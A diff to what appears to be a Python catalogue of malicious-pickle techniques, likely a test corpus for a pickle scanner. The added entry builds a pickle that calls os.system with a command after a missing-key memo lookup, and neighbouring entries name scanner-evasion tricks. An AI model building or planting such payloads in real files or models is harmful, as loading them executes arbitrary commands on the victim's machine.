@@ -454,6 +454,8 @@ _M: dict[str, Callable[[], bytes]] = {
     "technique-escaped-unicode-module-name": _escaped_module,
     "technique-memo-desync-imaginaryctf": _memo_desync,
     "technique-memo-put-after-dup": _memo_put_after_dup,
+    "technique-memo-missing-key-then-call": lambda: PickleBuilder(4).proto().get(99).pop().call(
+        "os", "system", CMD).stop().bytes(),
     "technique-stack-global-from-string": lambda: _stack_global_from("string"),
     "technique-stack-global-from-binstring": lambda: _stack_global_from("binstring"),
     "technique-stack-global-from-short-binunicode": lambda: _stack_global_from("short_binunicode"),
